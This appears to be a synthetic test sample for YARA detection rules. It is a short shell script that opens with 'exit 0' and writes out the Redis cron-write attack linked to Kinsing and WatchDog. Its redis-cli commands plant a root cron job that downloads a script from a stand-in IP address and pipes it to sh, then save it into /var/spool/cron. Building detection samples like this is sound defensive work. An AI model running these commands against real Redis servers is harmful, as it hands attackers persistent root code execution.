#!/bin/sh
exit 0  # ferret YARA test sample: synthetic, never run (Redis cron write as described for Kinsing/WatchDog)
redis-cli -h $1 -p 6379 config set stop-writes-on-bgsave-error no
redis-cli -h $1 -p 6379 set backup1 "\n\n*/2 * * * * root curl -fsSL http://203.0.113.11/r.sh | sh\n\n"
redis-cli -h $1 -p 6379 config set dir /var/spool/cron/
redis-cli -h $1 -p 6379 config set dbfilename root
redis-cli -h $1 -p 6379 save
